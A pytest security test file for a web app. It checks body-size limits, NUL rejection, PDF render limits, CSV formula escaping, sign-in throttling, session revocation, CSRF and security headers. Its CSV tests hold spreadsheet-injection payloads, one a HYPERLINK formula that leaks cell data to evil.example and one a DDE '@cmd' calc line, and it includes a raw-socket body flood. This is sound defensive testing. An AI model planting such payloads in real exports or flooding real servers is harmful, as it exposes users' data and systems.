"""The web app probed as an attacker would: hostile bodies and parameters, PDF floods, data that turns against its
reader, guessed passwords, replayed cookies, planted CSRF tokens, and the headers every answer carries.

Each test names the weakness it closes; the answers (status, message) are those of webapp/limits.py,
render_slots.py, throttle.py, sessions.py, security.py and readmodel/spreadsheet.py.

A deployment runs several instances of the web app on one database: each rule an instance must share (the PDF
render slots, the sign-in throttle, revoked sessions, the secret) is tested with one instance and with two.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import csv
import http.client
import io
import json
import re
import socket
import threading
import time
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import asyncpg
import httpx
import itsdangerous
import psutil
import pytest
from icalendar import Calendar
from structlog.testing import capture_logs

from readmodel.records import RecordReader
from readmodel.spreadsheet import safe_cell
from tests.readmodel.rows import DRAMMEN, NOW, insert_meeting, insert_period
from tests.webapp.conftest import SECRET, _no_temporal
from tests.webapp.server_process import server_process
from tests.webapp.test_pages import _csrf, sign_in
from webapp.app import WebApp, _derived, create_app
from webapp.feeds import feed_token, owner_feed_address
from webapp.limits import SIGN_IN_BYTES
from webapp.security import content_disposition, content_security_policy
from webapp.sessions import EARLIER_FILE, SessionGenerations
from webapp.settings import SECRET_FILE_NAME, WebSettings, shared_secret
from webapp.users import UserDirectory

_USERS = UserDirectory.development()
MILESTONE = f"/periods/{DRAMMEN.workflow_id}/milestone"


def _web(reader: RecordReader, **settings: Any) -> WebApp:
    return WebApp(
        reader=reader,
        temporal=_no_temporal,
        users=_USERS,
        settings=WebSettings(_env_file=None, secret=SECRET, **settings),
        secret=SECRET,
        clock=lambda: NOW,
    )


def _webs(instances: list[RecordReader], **settings: Any) -> list[WebApp]:
    """One `WebApp` per instance, alike; a test sends its n-th request to instance n modulo their number."""
    return [_web(reader, **settings) for reader in instances]


@contextlib.asynccontextmanager
async def _clients(instances: list[RecordReader], **settings: Any) -> AsyncIterator[list[httpx.AsyncClient]]:
    """A client of each instance's `WebApp` (`_webs`), alike."""
    async with contextlib.AsyncExitStack() as stack:
        yield [await stack.enter_async_context(_client(web)) for web in _webs(instances, **settings)]


@contextlib.asynccontextmanager
async def _client(web: WebApp, address: str = "127.0.0.1") -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app=create_app(web), client=(address, 4711))
    async with httpx.AsyncClient(
        transport=transport, base_url="http://testserver", headers={"Accept-Language": "en"}
    ) as client:
        yield client


# --- 1. blocking without signing in ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "size", "message"),
    [
        ("/login", SIGN_IN_BYTES + 1, "a sign-in form may carry at most 4 KiB"),
        (MILESTONE, 256 * 1024 + 1, "a form may carry at most 256 KiB"),
    ],
    ids=["sign-in", "any other form"],
)
async def test_a_body_over_its_routes_bound_is_refused_413_by_its_length_and_while_it_streams(
    http: httpx.AsyncClient, path: str, size: int, message: str
) -> None:
    form = {"content-type": "application/x-www-form-urlencoded"}

    declared = await http.post(path, content=b"a" * size, headers=form)

    async def chunks() -> AsyncIterator[bytes]:
        for _ in range(size // 1024 + 1):
            yield b"a" * 1024

    streamed = await http.post(path, content=chunks(), headers=form)  # chunked: no Content-Length

    assert (declared.status_code, streamed.status_code) == (413, 413)
    assert message in declared.text and message in streamed.text


async def test_a_form_with_too_many_fields_is_refused(http: httpx.AsyncClient) -> None:
    await sign_in(http, "a.hansen", "adviser-dev")

    answer = await http.post(
        MILESTONE,
        content="&".join(f"f{i}=1" for i in range(1001)).encode(),
        headers={"content-type": "application/x-www-form-urlencoded"},
    )

    assert answer.status_code == 413 and "too many fields: at most 1000" in answer.text


@pytest.mark.parametrize(
    ("method", "path", "data", "message"),
    [
        ("GET", "/cohorts/2027?county=3%003", None, "county: must not contain a NUL character (a query parameter)"),
        ("GET", "/search?q=Dr%00", None, "q: must not contain a NUL character (a query parameter)"),
        ("GET", "/tasks?adviser=%00", None, "adviser: must not contain a NUL character (a query parameter)"),
        ("GET", "/cohorts/20%0027", None, "the address: must not contain a NUL character"),
        ("POST", "/login", {"username": "a.hansen\x00", "password": "x"}, "username: must not contain a NUL"),
        ("POST", MILESTONE, {"milestone": "anchoring_done", "note": "a\x00b"}, "note: must not contain a NUL"),
    ],
    ids=["cohort filter", "search", "tasks", "address", "sign-in field", "period form field"],
)
async def test_a_nul_anywhere_in_a_request_is_refused_400_naming_where(
    http: httpx.AsyncClient, method: str, path: str, data: dict[str, str] | None, message: str
) -> None:
    await sign_in(http, "coordinator", "coordinator-dev")
    page = await http.get("/tasks")
    form = {**data, "csrftoken": _csrf(page)} if data else None

    answer = await http.request(method, path, data=form)

    assert answer.status_code == 400 and message in answer.text


async def test_a_form_that_is_not_utf8_is_refused_400(http: httpx.AsyncClient) -> None:
    answer = await http.post(
        "/login", content=b"username=\xff\xfe&password=x", headers={"content-type": "application/x-www-form-urlencoded"}
    )

    assert answer.status_code == 400 and "not UTF-8" in answer.text


def _hostile_post(host: str, port: int, chunked: bool, statuses: list[int]) -> None:
    """One sign-in post of 16 MB (declared, or chunked without a length), sent as fast as the server takes it."""
    piece = b"a" * 65536
    with socket.create_connection((host, port), timeout=10) as sock:
        length = b"transfer-encoding: chunked" if chunked else b"content-length: %d" % (256 * len(piece))
        sock.sendall(
            b"POST /login HTTP/1.1\r\nhost: x\r\ncookie: csrftoken=planted\r\n"
            b"content-type: application/x-www-form-urlencoded\r\n" + length + b"\r\n\r\n"
        )
        with contextlib.suppress(OSError):  # the server stops reading once it has refused
            for _ in range(256):
                sock.sendall(b"10000\r\n" + piece + b"\r\n" if chunked else piece)
            if chunked:
                sock.sendall(b"0\r\n\r\n")
        with contextlib.suppress(OSError):
            answer = sock.recv(4096)
            if answer.startswith(b"HTTP/1.1 "):
                statuses.append(int(answer[9:12]))


async def test_healthz_answers_within_100_ms_while_hostile_bodies_are_sent_to_the_sign_in(
    database_url: str, pool: asyncpg.Pool, tmp_path: Path
) -> None:
    with server_process(database_url, tmp_path / "var") as served:
        host, port = served.host, served.port
        statuses: list[int] = []
        senders = [
            threading.Thread(target=_hostile_post, args=(host, port, chunked, statuses))
            for _ in range(3)
            for chunked in (False, True)
        ]
        latencies: list[float] = []

        def probe() -> None:
            while any(s.is_alive() for s in senders) or len(latencies) < 10:
                connection = http.client.HTTPConnection(host, port, timeout=5)
                began = time.perf_counter()
                connection.request("GET", "/healthz")
                answer = connection.getresponse()
                assert answer.read() == b"ok"
                latencies.append(time.perf_counter() - began)
                connection.close()

        for sender in senders:
            sender.start()
        await asyncio.to_thread(probe)
        for sender in senders:
            await asyncio.to_thread(sender.join)

    assert len(latencies) >= 10 and max(latencies) < 0.1, f"slowest /healthz: {max(latencies) * 1000:.0f} ms"
    # A refused sender often loses the answer to the connection's reset; any answer it read is the refusal.
    assert set(statuses) <= {413}, statuses


# --- 2. PDF work bounded --------------------------------------------------------------------------


async def _chromiums_while(work: asyncio.Future[Any]) -> int:
    """The most Chromium browsers (children of this process) alive at once while `work` runs."""
    most = 0
    me = psutil.Process()
    while not work.done():
        alive = 0
        for child in me.children(recursive=False):
            with contextlib.suppress(psutil.NoSuchProcess):
                alive += "chrom" in child.name()
        most = max(most, alive)
        await asyncio.sleep(0.01)
    return most


@pytest.mark.parametrize("wait_seconds", [0.0, 60.0], ids=["no wait: the rest get 503", "waiting: all served"])
async def test_at_most_the_configured_number_of_chromium_renders_run_at_once(
    instances: list[RecordReader], wait_seconds: float
) -> None:
    async with _clients(instances, pdf_renders_at_once=2, pdf_wait_seconds=wait_seconds) as clients:
        for client in clients:
            await sign_in(client, "coordinator", "coordinator-dev")
        requests = asyncio.gather(*(clients[n % len(clients)].get("/cohorts/2027/report.pdf") for n in range(5)))
        most = await _chromiums_while(requests)
        answers = await requests

    served = [a for a in answers if a.status_code == 200]
    refused = [a for a in answers if a.status_code == 503]
    assert 1 <= most <= 2, f"{most} Chromiums at once"
    assert all(a.content.startswith(b"%PDF-") for a in served)
    assert all(a.headers["retry-after"] == "10" and "already making 2 PDF files" in a.text for a in refused)
    if wait_seconds:
        assert len(served) == 5
    else:
        assert len(served) == 2 and len(refused) == 3


async def test_a_render_slot_of_an_instance_that_died_frees_itself_when_its_lease_runs_out(
    reader: RecordReader,
) -> None:
    web = _web(reader, pdf_renders_at_once=1, pdf_wait_seconds=0)
    async with _client(web) as client:
        await sign_in(client, "coordinator", "coordinator-dev")
        await reader.pool.execute(
            "INSERT INTO web_render_slots (slot, held_by, held_until) VALUES (0, 'dead', now() + interval '1 minute')"
        )
        held = await client.get("/cohorts/2027/report.pdf")
        await reader.pool.execute("UPDATE web_render_slots SET held_until = now() - interval '1 second'")
        freed = await client.get("/cohorts/2027/report.pdf")

    assert held.status_code == 503 and "already making 1 PDF files" in held.text
    assert freed.status_code == 200 and freed.content.startswith(b"%PDF-")
    assert await reader.pool.fetchval("SELECT held_by FROM web_render_slots WHERE slot = 0") is None


# --- 3. data that turns against its reader --------------------------------------------------------


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://evil")'])
def test_a_text_a_spreadsheet_would_read_as_a_formula_is_made_plain_text(typed: str) -> None:
    assert safe_cell(typed) == "'" + typed
    assert safe_cell("Drammen") == "Drammen" and safe_cell(-3) == -3


async def test_typed_text_reaches_the_csv_report_as_text_not_as_a_formula(
    http: httpx.AsyncClient, pool: asyncpg.Pool
) -> None:
    await pool.execute(
        "UPDATE periods SET goals = $1, end_reason = $2 WHERE workflow_id = $3",
        ['=HYPERLINK("http://evil.example/?"&A1,"Klikk")', "fine"],
        "@cmd|' /C calc'!A0",
        DRAMMEN.workflow_id,
    )
    await sign_in(http, "coordinator", "coordinator-dev")

    sheet = await http.get("/cohorts/2027/report.csv", headers={"Accept-Language": "en"})

    row = next(r for r in csv.DictReader(io.StringIO(sheet.text)) if r["Owner id"] == DRAMMEN.owner_id)
    assert row["Goals"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Klikk"); fine'
    assert row["End reason"] == "'@cmd|' /C calc'!A0"
    assert row["Meetings held"] == "2"  # numbers stay numbers


async def test_a_cohort_name_reaches_the_download_file_name_quoted_and_encoded(
    http: httpx.AsyncClient, pool: asyncpg.Pool
) -> None:
    cohort = 'Vår "27"; x\\y'
    await insert_period(pool, replace(DRAMMEN, cohort=cohort))
    await sign_in(http, "coordinator", "coordinator-dev")

    sheet = await http.get(f"/cohorts/{quote(cohort, safe='')}/report.csv")

    assert sheet.status_code == 200
    assert sheet.headers["content-disposition"] == (
        'attachment; filename="cohort-V_r__27___x_y-progress.csv"; '
        "filename*=UTF-8''cohort-V%C3%A5r%20%2227%22%3B%20x%5Cy-progress.csv"
    )
    assert content_disposition("inline", "a\r\nb.pdf") == "inline; filename=\"a__b.pdf\"; filename*=UTF-8''a%0D%0Ab.pdf"


async def test_an_owners_feed_given_to_an_adviser_holds_only_the_periods_that_adviser_may_open(
    http: httpx.AsyncClient, pool: asyncpg.Pool
) -> None:
    # The same owner has a period in another cohort, followed by another adviser.
    other = replace(DRAMMEN, cohort="2025", advisers=["c.berg"])
    await insert_period(pool, other)
    await insert_meeting(pool, other, "m1", "kickoff", DRAMMEN.start_date, "c.berg's confidential kick-off")
    await sign_in(http, "a.hansen", "adviser-dev")
    period_page = await http.get(f"/periods/{DRAMMEN.workflow_id}")
    link = re.search(r'id="owner-feed" href="([^"]+)"', period_page.text)
    assert link and link.group(1).replace("&amp;", "&") == owner_feed_address(SECRET, "3301", "a.hansen")
    http.cookies.clear()

    advisers = await http.get(link.group(1).replace("&amp;", "&"))
    coordinators = await http.get(owner_feed_address(SECRET, "3301", "coordinator"))
    unscoped = await http.get(f"/feeds/owners/3301.ics?token={feed_token(SECRET, 'owner', '3301')}")
    other_viewer = await http.get(link.group(1).replace("&amp;", "&").replace("for=a.hansen", "for=c.berg"))

    def summaries(feed: httpx.Response) -> list[str]:
        return sorted(str(e["SUMMARY"]) for e in Calendar.from_ical(feed.content).walk("VEVENT"))

    assert "Drammen: Kick-off" in summaries(advisers)
    assert not any("confidential" in s for s in summaries(advisers))
    assert "Drammen: c.berg's confidential kick-off" in summaries(coordinators)
    assert (unscoped.status_code, other_viewer.status_code) == (404, 404)


# --- 4. sign-in and sessions ----------------------------------------------------------------------


async def _try(client: httpx.AsyncClient, name: str, password: str) -> httpx.Response:
    page = await client.get("/login")
    return await client.post("/login", data={"username": name, "password": password, "csrftoken": _csrf(page)})


async def test_failed_sign_ins_are_limited_per_user_name_with_a_delay_and_a_log_line_without_the_password(
    instances: list[RecordReader],
) -> None:
    async with _clients(instances, sign_in_failure_delay=0.2) as clients:
        with capture_logs() as logs:
            began = time.perf_counter()
            failures = [await _try(clients[i % len(clients)], "a.hansen", f"guess-{i}") for i in range(5)]
            took = time.perf_counter() - began
            # Even the right password, now, and on every instance.
            locked = [await _try(client, "a.hansen", "adviser-dev") for client in clients]
        other = await _try(clients[-1], "b.olsen", "adviser-dev")

    assert [f.status_code for f in failures] == [401] * 5 and took >= 5 * 0.2
    assert all(answer.status_code == 429 and "Too many failed sign-ins" in answer.text for answer in locked)
    assert all(0 < int(answer.headers["retry-after"]) <= 15 * 60 for answer in locked)
    assert other.status_code == 303, "another user name is not locked out by a.hansen's failures"
    failed = [entry for entry in logs if entry["event"] == "sign_in_failed"]
    assert [entry["failures_in_window"] for entry in failed] == [1, 2, 3, 4, 5]
    assert failed[0]["user"] == "a.hansen" and failed[0]["client"] == "127.0.0.1"
    assert not any("guess-" in str(value) for entry in logs for value in entry.values())
    assert any(entry["event"] == "sign_in_throttled" for entry in logs)
    kept = await instances[0].pool.fetch("SELECT key_digest FROM web_sign_in_failures")
    assert kept and not any("a.hansen" in row["key_digest"] for row in kept), "names are kept only as digests"


async def test_failed_sign_ins_are_limited_per_client_address_across_user_names(instances: list[RecordReader]) -> None:
    webs = _webs(instances, sign_in_failure_delay=0, sign_in_failures_per_address=3)
    tries = []
    for n, name in enumerate(("x1", "x2", "x3", "a.hansen")):
        async with _client(webs[n % len(webs)], "10.0.0.7") as client:
            tries.append(await _try(client, name, "wrong-password"))
    async with _client(webs[0], "10.0.0.8") as elsewhere:
        other_address = await _try(elsewhere, "a.hansen", "adviser-dev")

    assert [t.status_code for t in tries] == [401, 401, 401, 429]
    assert other_address.status_code == 303


async def test_a_burst_of_guesses_sent_at_once_gets_no_more_tries_than_the_limit(
    instances: list[RecordReader],
) -> None:
    async with _clients(instances, sign_in_failure_delay=0) as clients:
        tokens = [_csrf(await client.get("/login")) for client in clients]

        async def guess(n: int) -> int:
            client, token = clients[n % len(clients)], tokens[n % len(tokens)]
            form = {"username": "a.hansen", "password": f"guess-{n}", "csrftoken": token}
            return (await client.post("/login", data=form)).status_code

        answers = await asyncio.gather(*(guess(n) for n in range(12)))

    assert sorted(answers) == [401] * 5 + [429] * 7, "each attempt counts before its password is checked"


async def test_spaces_around_a_user_name_are_no_new_name_to_guess_under(reader: RecordReader) -> None:
    web = _web(reader, sign_in_failure_delay=0)
    async with _client(web) as client:
        tries = [await _try(client, name, "wrong") for name in ("a.hansen", " a.hansen", "a.hansen  ", "\ta.hansen")]
        tries.append(await _try(client, " a.hansen ", "wrong"))
        locked = await _try(client, "a.hansen", "adviser-dev")

    assert [t.status_code for t in tries] == [401] * 5
    assert locked.status_code == 429


async def test_failures_older_than_the_window_no_longer_count_and_are_deleted(reader: RecordReader) -> None:
    web = _web(reader, sign_in_failure_delay=0, sign_in_failures_per_name=2)
    async with _client(web) as client:
        assert [(await _try(client, "a.hansen", "wrong")).status_code for _ in range(3)] == [401, 401, 429]
        # The window (15 minutes) has passed for those failures.
        await reader.pool.execute("UPDATE web_sign_in_failures SET failed_at = failed_at - interval '16 minutes'")
        again = await _try(client, "a.hansen", "wrong")
        left = await reader.pool.fetchval("SELECT count(*) FROM web_sign_in_failures")

    assert again.status_code == 401
    assert left == 2, "the old failures were deleted; the new one is kept under the name and the address"


async def test_a_session_cookie_stops_working_after_signing_out_also_a_copy_and_after_a_restart(
    instances: list[RecordReader],
) -> None:
    here, there = (_web(reader) for reader in (instances[0], instances[-1]))
    async with _client(here) as browser, _client(there) as thief:
        await sign_in(browser, "a.hansen", "adviser-dev")
        thief.cookies.update(browser.cookies)  # a copy of the cookie, taken while signed in
        assert (await thief.get("/tasks")).status_code == 200
        page = await browser.get("/tasks")
        signed_out = await browser.post("/logout", data={"csrftoken": _csrf(page)})

        replayed = await thief.get("/tasks")
        replayed_post = await thief.post(MILESTONE, data={"milestone": "mapping_done", "csrftoken": _csrf(page)})
        missing_static = await browser.get("/static/no-such-file.css")
    async with _client(_web(instances[-1])) as after_restart:
        after_restart.cookies.update(thief.cookies)
        replayed_later = await after_restart.get("/tasks")
        await sign_in(after_restart, "a.hansen", "adviser-dev")
        signed_in_again = await after_restart.get("/tasks")

    assert signed_out.status_code == 303
    assert (replayed.status_code, replayed.headers["location"]) == (303, "/login?next=%2Ftasks")
    assert replayed_post.status_code == 303 and replayed_post.headers["location"].startswith("/login?next=")
    assert missing_static.status_code == 404 and "a.hansen" not in missing_static.text
    assert replayed_later.status_code == 303
    assert signed_in_again.status_code == 200


async def test_instances_without_a_configured_secret_share_one_from_the_database(
    instances: list[RecordReader], tmp_path: Path
) -> None:
    earlier = tmp_path / "earlier"
    earlier.mkdir()
    (earlier / SECRET_FILE_NAME).write_text("kept-by-an-earlier-version-" + "k" * 40 + "\n", encoding="utf-8")
    unset = WebSettings(_env_file=None)
    made = await asyncio.gather(
        *(
            shared_secret(unset, reader.pool, folder)
            for reader, folder in zip(instances, [earlier, tmp_path / "new"], strict=False)
        )
    )
    configured = await shared_secret(WebSettings(_env_file=None, secret=SECRET), instances[-1].pool, tmp_path)

    assert made[0] == "kept-by-an-earlier-version-" + "k" * 40, "the earlier file's secret"
    assert len(set(made)) == 1, "instances starting at once agree on one secret"
    assert configured == SECRET


async def test_a_secret_file_too_short_to_sign_with_is_ignored_and_a_new_secret_made(
    reader: RecordReader, tmp_path: Path
) -> None:
    (tmp_path / SECRET_FILE_NAME).write_text("short\n", encoding="utf-8")
    with capture_logs() as logs:
        made = await shared_secret(WebSettings(_env_file=None), reader.pool, tmp_path)

    assert len(made) >= 32 and made != "short"
    assert any(entry["event"] == "web_secret_file_ignored" for entry in logs)


async def test_signed_out_sessions_an_earlier_version_kept_in_its_file_stay_signed_out(
    reader: RecordReader, tmp_path: Path
) -> None:
    kept = tmp_path / EARLIER_FILE
    kept.write_text(json.dumps({"a.hansen": 2, "b.olsen": 0}), encoding="utf-8")
    generations = SessionGenerations(reader.pool)
    await generations.revoke_all("coordinator", NOW)
    await generations.revoke_all("coordinator", NOW)
    await generations.revoke_all("coordinator", NOW)  # 3 in the database, above the file's 1 below
    kept.write_text(json.dumps({"a.hansen": 2, "b.olsen": 0, "coordinator": 1}), encoding="utf-8")

    first = await generations.import_file(kept)
    again = await generations.import_file(kept)
    web = _web(reader)
    async with _client(web) as browser, _client(web) as kept_from_before:
        await sign_in(browser, "a.hansen", "adviser-dev")
        signed_in = await browser.get("/tasks")
        kept_from_before.cookies.set("session", _session_cookie({"user": "a.hansen", "sid": "old", "gen": 0}))
        older = await kept_from_before.get("/tasks")

    assert (first, again) == (1, 0), "raised once; the database's higher generation is kept"
    assert [await generations.current(u) for u in ("a.hansen", "b.olsen", "coordinator")] == [2, 0, 3]
    assert signed_in.status_code == 200
    assert older.status_code == 303, "a session from before the earlier version's sign-out stays signed out"
    assert await generations.import_file(tmp_path / "missing.json") == 0


def _session_cookie(session: dict[str, Any]) -> str:
    """A session cookie as Starlette signs it with the app's session key (`webapp.app._derived`)."""
    signer = itsdangerous.TimestampSigner(_derived(SECRET, "session"))
    return signer.sign(base64.b64encode(json.dumps(session).encode())).decode()


async def test_a_planted_csrf_token_from_another_browser_does_not_pass(reader: RecordReader) -> None:
    web = _web(reader)
    async with _client(web) as attacker, _client(web) as victim:
        login_page = await attacker.get("/login")  # a token we signed, but of the attacker's browser
        planted = _csrf(login_page)
        await sign_in(victim, "a.hansen", "adviser-dev")
        own = _csrf(await victim.get("/tasks"))
        victim.cookies.set("csrftoken", planted)

        forged = await victim.post("/logout", data={"csrftoken": planted})
        victim.cookies.set("csrftoken", own)
        genuine = await victim.post("/logout", data={"csrftoken": own})

    assert planted != own
    assert forged.status_code == 403 and "does not belong to this session" in forged.text
    assert genuine.status_code == 303


async def test_the_next_page_replaces_a_planted_token_cookie_with_the_sessions(
    http: httpx.AsyncClient,
) -> None:
    await sign_in(http, "a.hansen", "adviser-dev")
    own = _csrf(await http.get("/tasks"))
    http.cookies.set("csrftoken", "planted")

    page = await http.get("/tasks")

    assert _csrf(page) == own and f"csrftoken={own}" in page.headers["set-cookie"]
    assert "HttpOnly" in page.headers["set-cookie"]


@pytest.mark.parametrize(
    "path",
    ["/login", "/tasks", "/cohorts/nope", "/static/style.css", "/healthz", "/feeds/advisers/x.ics"],
)
async def test_every_answer_carries_the_security_headers(http: httpx.AsyncClient, path: str) -> None:
    await sign_in(http, "coordinator", "coordinator-dev")

    answer = await http.get(path)
    too_large = await http.post("/login", content=b"a" * 10_000)

    for headers in (answer.headers, too_large.headers):
        assert headers["content-security-policy"] == content_security_policy()
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"
        assert "strict-transport-security" not in headers  # plain http://localhost: no HSTS


async def test_hsts_is_sent_when_cookies_are_secure(reader: RecordReader) -> None:
    async with _client(_web(reader, secure_cookies=True)) as client:
        answer = await client.get("/login")

    assert answer.headers["strict-transport-security"] == "max-age=31536000; includeSubDomains"


def test_no_template_has_inline_script_or_style_so_the_policy_can_forbid_them() -> None:
    folders = [Path("webapp/templates"), Path("readmodel/templates")]
    pages = {p: p.read_text(encoding="utf-8") for folder in folders for p in folder.glob("*.html")}
    # The PDFs' own files (report_file.html, outcomes_file.html) are never served: Chromium prints them from a
    # temporary folder.
    served = {p: text for p, text in pages.items() if not p.name.endswith("_file.html")}

    assert served, "the templates were found"
    for path, text in served.items():
        assert not re.search(r"<script(?![^>]*\bsrc=)", text), f"{path}: inline script"
        assert not re.search(r"<style|\sstyle=|\son[a-z]+=", text), f"{path}: inline style or handler"
